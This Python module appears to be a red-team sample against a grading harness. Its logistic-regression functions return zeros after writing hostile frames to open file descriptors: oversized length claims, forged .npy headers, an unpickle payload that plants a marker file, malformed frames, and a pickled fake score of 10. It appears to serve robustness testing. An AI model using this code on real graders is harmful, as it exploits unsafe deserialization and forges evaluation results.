"""Category: transport abuse. Attack: write hostile frames straight onto the reply socket
before the real reply: a frame claiming 2**62 bytes, a .npy header claiming an 8 TB array, an
object array carrying a pickle payload (that would create a marker file if unpickled), a
structured and a big-endian dtype, malformed magic, an int64-overflowing shape, a truncated
frame and trailing garbage, then return zeros."""
import io
import json
import os
import pickle
import struct

import numpy as np

MARKER = "/tmp/planted_by_unpickle"


class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


def _npy(arr, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def _fake_npy(header: str, payload: bytes = b""):
    head = header.encode("latin1")
    head += b" " * (-(10 + len(head) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + payload


def _frame(arrays, extra=None, seq=None):
    header = {"status": "ok", "seq": seq, "arrays": [n for n, _ in arrays], **(extra or {})}
    head = json.dumps(header).encode()
    body = struct.pack("<I", len(head)) + head
    for _, blob in arrays:
        body += struct.pack("<Q", len(blob)) + blob
    return struct.pack("<Q", len(body)) + body


def _channel_fds():
    return [fd for fd in range(3, 32) if os.path.exists(f"/proc/self/fd/{fd}")] or list(range(3, 8))


ATTACKS = [
    lambda: struct.pack("<Q", 1 << 62),
    lambda: _frame([("out.s", _fake_npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"))]),
    lambda: _frame([("out.s", _npy(np.array([Payload(), 1], dtype=object), allow_pickle=True))]),
    lambda: _frame([("out.s", _npy(np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4")])))]),
    lambda: _frame([("out.s", _npy(np.zeros(3, dtype=">f8")))]),
    lambda: _frame([("out.s", b"NOTNUMPY" + b"\x00" * 64)]),
    lambda: _frame([("out.s", _fake_npy("{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296), }"))]),
    lambda: _frame([("out.s", _fake_npy("{'descr': ['<f8'], 'fortran_order': 0, 'shape': (1,), }", b"\x00" * 8))]),
    lambda: _frame([], {"types": {"s": {"dtype": [1, 2], "shape": "x" * 10}}, "error": ["x"], "stdout": 5}),
    lambda: struct.pack("<Q", 100) + b"\x00" * 10,
    lambda: pickle.dumps({"status": "ok", "score": 10}),
]
_n = {"i": 0}


def _attack():
    blob = ATTACKS[_n["i"] % len(ATTACKS)]()
    _n["i"] += 1
    for fd in _channel_fds():
        try:
            os.write(fd, blob)
        except OSError:
            pass


def sigmoid(z):
    _attack()
    return np.zeros_like(np.asarray(z, dtype=np.float64))


def predict_proba(X, w, b):
    _attack()
    return np.zeros(X.shape[0])


def bce_loss(X, y, w, b):
    _attack()
    return 0.0


def grad_logits(X, y, w, b):
    _attack()
    return np.zeros(X.shape[0])


def gradients(X, y, w, b):
    _attack()
    return np.zeros(X.shape[1]), 0.0
